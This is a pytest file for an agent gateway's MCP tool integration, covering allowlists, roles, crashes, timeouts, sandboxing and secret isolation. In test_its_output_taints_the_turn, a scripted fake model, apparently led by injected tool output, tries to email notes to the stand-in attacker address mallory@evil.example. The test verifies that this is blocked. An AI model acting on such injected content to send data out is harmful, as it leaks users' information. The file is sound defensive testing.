"""MCP servers as tools, through the real gateway: a real server (tests/fakes/mcp_server.py,
written with the official ``mcp`` SDK) over stdio and streamable HTTP, the real SDK client,
the fake LLM behind the real openai SDK."""

from __future__ import annotations

import asyncio
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from mcp.types import TextContent

from agent.llm.openai_provider import TOOL_ERROR_MARKER
from agent.mcp.client import McpClient, ServerState
from agent.tools.sandbox import find_bwrap
from channels.memory import MemoryChannel
from gateway.core.messages import ChatType
from gateway.runtime.app import Gateway
from tests.conftest import SettingsFactory
from tests.fakes.llm import FakeLLM, Recorded, Step, calls, text
from tests.fakes.mailservers import SmtpSink
from tests.fakes.mcp_fixtures import start_http_server, stdio


def answer_with_results(request: Recorded) -> Step:
    """The model's final answer repeats what the tools returned."""
    return text("Result: " + " | ".join(request.tool_results))


async def one_turn(
    settings: Any, fake_llm: FakeLLM, *steps: Step, message: str = "please do it", **push: Any
) -> tuple[MemoryChannel, Gateway]:
    fake_llm.queue(*steps)
    fake_llm.responder = answer_with_results
    channel = MemoryChannel(push.pop("channel_name", "memory"))
    async with Gateway(settings, channels=[channel]) as gateway:
        await channel.push(message, **push)
        await channel.wait_for(1, chat_id=push.get("chat_id", "chat-1"))
        await gateway.wait_idle()
    return channel, gateway


@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_the_model_calls_an_mcp_tool_and_the_answer_carries_its_result(
    make_settings: SettingsFactory,
    fake_llm: FakeLLM,
    transport: str,
    request: pytest.FixtureRequest,
) -> None:
    server = stdio() if transport == "stdio" else {"url": request.getfixturevalue("shared")["url"]}
    settings = make_settings(mcp={"servers": {"demo": server}})
    channel, _ = await one_turn(
        settings,
        fake_llm,
        calls(("demo__now", {"zone": "Europe/Berlin"})),
        message="what time is it in Berlin?",
    )
    first = fake_llm.requests[0]
    assert "demo__now" in first.tool_names
    [spec] = [t["function"] for t in first.body["tools"] if t["function"]["name"] == "demo__now"]
    assert spec["parameters"]["properties"]["zone"]["type"] == "string"
    assert "It is 2030-01-02 03:04 in Europe/Berlin." in channel.texts()[0]
    # outside content, marked as such for the model
    assert fake_llm.requests[1].tool_results[0].startswith("[untrusted output of demo__now")


async def test_a_tool_not_on_the_allowlist_is_not_offered(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    server = {"url": shared["url"], "tools": ["now", "add_event"]}
    settings = make_settings(mcp={"servers": {"demo": server}})
    await one_turn(settings, fake_llm, calls(("demo__hidden", {})))
    offered = fake_llm.requests[0].tool_names
    assert {"demo__now", "demo__add_event"} <= set(offered)
    assert "demo__hidden" not in offered and "demo__environment" not in offered
    result = fake_llm.requests[1].tool_results[0]
    assert "unknown tool 'demo__hidden'" in result
    assert "you should not see this" not in result


TELEGRAM = {
    "owners": ["1"],
    "allow_from": ["1", "3"],
    "group_allow_from": ["g"],
}


async def test_a_member_in_a_group_cannot_call_it(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    server = {"url": shared["url"], "roles": ["owner", "admin", "member"], "eager": True}
    settings = make_settings(telegram=TELEGRAM, mcp={"servers": {"demo": server}})
    fake_llm.queue(calls(("demo__add_event", {"title": "party", "when": "friday"})))
    fake_llm.responder = answer_with_results
    channel = MemoryChannel("telegram")
    async with Gateway(settings, channels=[channel]) as gateway:
        assert gateway.mcp is not None
        async with asyncio.timeout(20):  # its tools are known: the refusal is the policy's
            await gateway.mcp.clients["demo"].wait_for_state(ServerState.READY)
        await channel.push(
            "@bot add event party on friday", sender_id="3", chat_id="g", chat_type=ChatType.GROUP
        )
        await channel.wait_for(1, chat_id="g")
        await gateway.wait_idle()
    assert not any(name.startswith("demo__") for name in fake_llm.requests[0].tool_names)
    assert "demo__add_event is not available in group chats" in fake_llm.requests[1].tool_results[0]
    assert "party" not in _events(shared)


async def test_by_default_only_the_owner_and_admins_get_its_tools(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    settings = make_settings(telegram=TELEGRAM, mcp={"servers": {"demo": {"url": shared["url"]}}})
    fake_llm.responder = answer_with_results
    channel = MemoryChannel("telegram")
    async with Gateway(settings, channels=[channel]) as gateway:
        assert gateway.mcp is not None
        await channel.push("hi", sender_id="1", chat_id="1")  # the owner's turn starts it
        await channel.wait_for(1, chat_id="1")
        fake_llm.queue(calls(("demo__now", {})))
        await channel.push("what time is it?", sender_id="3", chat_id="3")
        await channel.wait_for(1, chat_id="3")
        await gateway.wait_idle()
    assert "demo__now" in fake_llm.requests[0].tool_names
    assert not any(name.startswith("demo__") for name in fake_llm.requests[1].tool_names)
    assert (
        "demo__now is only available to admins and owners" in fake_llm.requests[2].tool_results[0]
    )


async def test_its_output_taints_the_turn(
    make_settings: SettingsFactory, fake_llm: FakeLLM, tmp_path: Path, shared: dict[str, Any]
) -> None:
    sink = await SmtpSink().start(tmp_path)
    try:
        settings = make_settings(
            mcp={"servers": {"demo": {"url": shared["url"]}}},
            email={
                "smtp_host": "127.0.0.1",
                "smtp_port": sink.port,
                "smtp_starttls": False,
                "from_address": "bot@example.test",
                "allowed_recipients": ["dana@example.test"],
            },
        )
        channel, _ = await one_turn(
            settings,
            fake_llm,
            calls(("demo__lookup_contact", {"name": "Bob"})),
            calls(("send_email", {"to": "mallory@evil.example", "subject": "x", "body": "notes"})),
            calls(("demo__add_event", {"title": "call Bob (tainted)", "when": "monday"})),
            message="look up Bob's phone number and email it to Dana",
        )
    finally:
        await sink.stop()
    lookup, email = fake_llm.requests[2].tool_results
    assert "mallory@evil.example" in lookup
    assert email.startswith(
        TOOL_ERROR_MARKER + "not sent: mallory@evil.example is not an allowed recipient"
    )
    assert sink.attempts == 0
    # a side effect on the server waits for the owner, told what the turn read
    [asked] = channel.texts()
    assert "an MCP tool's answer" in asked and "tool: demo__add_event" in asked
    assert "call Bob (tainted)" not in _events(shared)


async def test_a_side_effect_before_any_outside_content_runs(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    settings = make_settings(mcp={"servers": {"demo": {"url": shared["url"]}}})
    await one_turn(
        settings,
        fake_llm,
        calls(("demo__add_event", {"title": "dentist", "when": "tuesday"}), ("demo__now", {})),
        message="add event: dentist on tuesday",
    )
    assert "tuesday dentist\n" in _events(shared)
    assert "Added 'dentist' on tuesday." in fake_llm.requests[1].tool_results[0]
    # a side effect is recorded (a resumed turn never repeats it); a read-only tool is not
    assert await _ledger_tools(settings) == ["demo__add_event"]


def _events(shared: dict[str, Any]) -> str:
    events: Path = shared["events"]
    return events.read_text() if events.exists() else ""


async def _ledger_tools(settings: Any) -> list[str]:
    import sqlite3

    with sqlite3.connect(settings.data_dir / "switchboard.db") as db:
        return [row[0] for row in db.execute("SELECT tool FROM tool_ledger")]


async def test_a_server_that_crashes_mid_call_gives_an_error_and_is_restarted(
    make_settings: SettingsFactory, fake_llm: FakeLLM
) -> None:
    settings = make_settings(mcp={"servers": {"demo": stdio(sandbox=False)}})
    fake_llm.responder = answer_with_results
    fake_llm.queue(calls(("demo__environment", {})), calls(("demo__crash", {})))
    channel = MemoryChannel()
    async with Gateway(settings, channels=[channel]) as gateway:
        await channel.push("show the demo environment, then crash the demo server")
        [asked] = await channel.wait_for(1)  # the environment is outside content: "crash?"
        await channel.push("/approve " + asked.text.split("/approve ", 1)[1].split()[0])
        await channel.wait_for(3)
        assert gateway.mcp is not None
        client = gateway.mcp.clients["demo"]
        async with asyncio.timeout(20):  # the crash is noticed after the call's answer
            await client.wait_for_state(ServerState.READY, restarts=1)
        fake_llm.queue(calls(("demo__environment", {})))
        await channel.push("check it again")
        await channel.wait_for(4)
    before, crashed = fake_llm.requests[2].tool_results
    assert "stopped during the call" in crashed and "restarted" in crashed
    after = fake_llm.requests[-1].tool_results[-1]
    assert _boot(after) != _boot(before)
    assert client.restarts >= 1


def _boot(result: str) -> str:
    return json.loads(result[result.index("{") : result.rindex("}") + 1])["_BOOT"]


async def test_a_hanging_server_hits_the_timeout(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    server = {"url": shared["url"], "timeout_seconds": 0.5}
    settings = make_settings(mcp={"servers": {"demo": server}})
    await one_turn(settings, fake_llm, calls(("demo__hang", {})), calls(("demo__now", {})))
    hung, now = fake_llm.requests[2].tool_results
    assert "did not answer within 0.5 s" in hung
    assert "It is 2030-01-02" in now  # the server itself is fine


async def test_secrets_never_reach_the_server_unless_configured(
    make_settings: SettingsFactory, fake_llm: FakeLLM, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nor does Switchboard's home: in the sandbox the server sees its own directory only."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-host-key-should-stay-home")
    monkeypatch.setenv(
        "SWITCHBOARD_TELEGRAM__TOKEN", "123456:telegram-token-stays-home-abcdefghijk"
    )
    server = stdio(env={"CALENDAR_TOKEN": "cal-secret-for-this-server"})
    settings = make_settings(mcp={"servers": {"demo": server}})
    private = settings.workspace_dir / "private.txt"
    private.write_text("the owner's notes")
    fake_llm.queue(calls(("demo__environment", {})))
    fake_llm.responder = answer_with_results
    channel = MemoryChannel()
    async with Gateway(settings, channels=[channel]) as gateway:
        await channel.push("show me the server's environment")
        await channel.wait_for(1)
        assert gateway.mcp is not None
        # what the server's process got, asked directly (the model's view is redacted)
        client = gateway.mcp.clients["demo"]
        environment = json.loads(await _text(client, "environment"))
        reads = [
            await _text(client, "read_text", path=str(p)) for p in (settings.config_file, private)
        ]
    assert environment["CALENDAR_TOKEN"] == "cal-secret-for-this-server"
    leaked = [k for k, v in environment.items() if "stays-home" in v or "sk-" in v]
    assert leaked == []
    assert not any(k.startswith("SWITCHBOARD_") for k in environment)
    assert set(environment) <= {
        "CALENDAR_TOKEN",
        "HOME",
        "LANG",
        "LC_CTYPE",
        "LOGNAME",
        "PATH",
        "SHELL",
        "TERM",
        "USER",
        "PWD",
        "_CWD",
        "_BOOT",
    }
    # and the configured secret itself never reaches the model or the chat
    assert "cal-secret-for-this-server" not in json.dumps(fake_llm.requests[1].body)
    assert "cal-secret-for-this-server" not in channel.texts()[0]
    if find_bwrap("auto") is not None:  # the sandbox hides config.toml and the workspace
        assert environment["HOME"] == environment["_CWD"] == str(settings.home / "mcp" / "demo")
        assert all(text.startswith("cannot read") for text in reads)
        assert settings.config_file.exists() and private.exists()  # they are there, outside


async def _text(client: McpClient, tool: str, **args: Any) -> str:
    result = await client.call(tool, args)
    assert isinstance(result.content[0], TextContent)
    return result.content[0].text


async def test_a_server_that_is_down_affects_nothing_else(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    missing = {"command": "/nonexistent/mcp-server"}
    settings = make_settings(mcp={"servers": {"demo": missing, "local": {"url": shared["url"]}}})
    channel, _ = await one_turn(settings, fake_llm, calls(("local__now", {})))
    offered = fake_llm.requests[0].tool_names
    assert "local__now" in offered and not any(n.startswith("demo__") for n in offered)
    assert "It is 2030-01-02" in channel.texts()[0]


async def test_tools_of_a_server_that_died_answer_a_clear_error(
    make_settings: SettingsFactory, fake_llm: FakeLLM, http_server: Any
) -> None:
    process, url = http_server
    settings = make_settings(mcp={"servers": {"demo": {"url": url}}})
    fake_llm.responder = answer_with_results
    channel = MemoryChannel()
    async with Gateway(settings, channels=[channel]):
        fake_llm.queue(calls(("demo__now", {})))
        await channel.push("time?")
        await channel.wait_for(1)
        process.kill()
        await process.wait()
        fake_llm.queue(calls(("demo__now", {})))
        await channel.push("time again?")
        await channel.wait_for(2)
    error = fake_llm.requests[-1].tool_results[-1]
    assert error.startswith(TOOL_ERROR_MARKER + "demo__now is unavailable:")
    assert "demo" in channel.texts()[1]


async def test_pictures_and_resources_reach_the_model(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    settings = make_settings(mcp={"servers": {"demo": {"url": shared["url"]}}})
    await one_turn(
        settings,
        fake_llm,
        calls(("demo__picture", {}), ("demo__readme", {}), ("demo__huge", {"chars": 40_000})),
    )
    request = fake_llm.requests[1]
    picture, readme, huge = request.tool_results
    assert "[picture (image/png) attached]" in picture
    assert "[resource file:///README.md]\n# Demo\nHello from a resource." in readme
    assert "characters omitted" in huge and len(huge) < 20_000
    # the picture follows the tool results as an image part (OpenAI wire format)
    last = request.body["messages"][-1]
    assert last["role"] == "user"
    assert last["content"][1]["image_url"]["url"].startswith("data:image/png;base64,iVBOR")


async def test_pictures_travel_inside_the_tool_result_for_anthropic(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    settings = make_settings(
        llm={"provider": "anthropic"}, mcp={"servers": {"demo": {"url": shared["url"]}}}
    )
    channel, _ = await one_turn(settings, fake_llm, calls(("demo__picture", {})))
    assert "[picture (image/png) attached]" in channel.texts()[0]
    [result] = [
        block
        for message in fake_llm.requests[1].body["messages"]
        if isinstance(message["content"], list)
        for block in message["content"]
        if block.get("type") == "tool_result"
    ]
    text_block, image_block = result["content"]
    assert "[picture (image/png) attached]" in text_block["text"]
    assert image_block["source"]["data"].startswith("iVBOR")


async def test_many_tools_are_found_instead_of_sent(
    make_settings: SettingsFactory, fake_llm: FakeLLM
) -> None:
    process, url = await start_http_server("--http", "--extra", "60")
    settings = make_settings(mcp={"servers": {"demo": {"url": f"{url}/mcp"}}})
    await one_turn(
        settings,
        fake_llm,
        calls(("find_tools", {"query": "payroll records"})),
        calls(("demo__tool_04", {"query": "march"})),
        message="find the payroll records for march",
    )
    first, after_search, after_call = fake_llm.requests[:3]
    assert "find_tools" in first.tool_names
    assert not any(n.startswith("demo__") for n in first.tool_names)
    assert "demo" in next(
        t["function"]["description"]
        for t in first.body["tools"]
        if t["function"]["name"] == "find_tools"
    )
    found = after_search.tool_results[0]
    assert "demo__tool_04" in found  # department 4 keeps the payroll records
    assert "demo__tool_04" in after_search.tool_names
    assert "filler 4 answered 'march'" in after_call.tool_results[-1]
    process.kill()
    await process.wait()


async def test_an_eager_server_starts_with_the_gateway(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    servers = {"demo": {"url": shared["url"], "eager": True}, "lazy": {"url": shared["url"]}}
    settings = make_settings(mcp={"servers": servers})
    async with Gateway(settings, channels=[MemoryChannel()]) as gateway:
        assert gateway.mcp is not None
        eager, lazy = gateway.mcp.clients["demo"], gateway.mcp.clients["lazy"]
        async with asyncio.timeout(20):
            await eager.wait_for_state(ServerState.READY)
        assert lazy.state is ServerState.IDLE
    assert eager.state is ServerState.STOPPED


async def test_only_the_agents_named_get_the_server(
    make_settings: SettingsFactory, fake_llm: FakeLLM, shared: dict[str, Any]
) -> None:
    settings = make_settings(
        agents={"work": {"name": "WorkBot"}},
        routes=[{"agent": "work", "chat": "office"}],
        mcp={"servers": {"demo": {"url": shared["url"], "agents": ["work"]}}},
    )
    channel = MemoryChannel()
    async with Gateway(settings, channels=[channel]):
        await channel.push("hi", chat_id="home")
        await channel.wait_for(1, chat_id="home")
        await channel.push("hi", chat_id="office")
        await channel.wait_for(1, chat_id="office")
    main, work = fake_llm.requests
    assert not any(name.startswith("demo__") for name in main.tool_names)
    assert "demo__now" in work.tool_names


@pytest.mark.skipif(find_bwrap("auto") is None, reason="needs bubblewrap that works here")
async def test_a_server_script_named_by_path_starts_in_the_sandbox(
    make_settings: SettingsFactory, fake_llm: FakeLLM, tmp_path: Path
) -> None:
    """``command = "python3"``, ``args = ["/home/me/srv.py"]`` and no ``read_paths``: the
    sandbox shows that one file (read-only), and nothing else of its folder."""
    folder = tmp_path / "me"
    folder.mkdir()
    (folder / "notes.txt").write_text("beside the script")
    script = folder / "srv.py"
    script.write_text(
        "from mcp.server.mcpserver import MCPServer\n"
        "server = MCPServer('mine')\n"
        "@server.tool()\n"
        "def peek() -> str:\n"
        "    import os\n"
        f"    return 'sees notes' if os.path.exists({str(folder / 'notes.txt')!r}) else 'alone'\n"
        "server.run()\n"
    )
    settings = make_settings(
        mcp={"servers": {"mine": {"command": sys.executable, "args": [str(script)]}}}
    )
    await one_turn(settings, fake_llm, calls(("mine__peek", {})))
    [result] = fake_llm.requests[1].tool_results
    assert "alone" in result, result
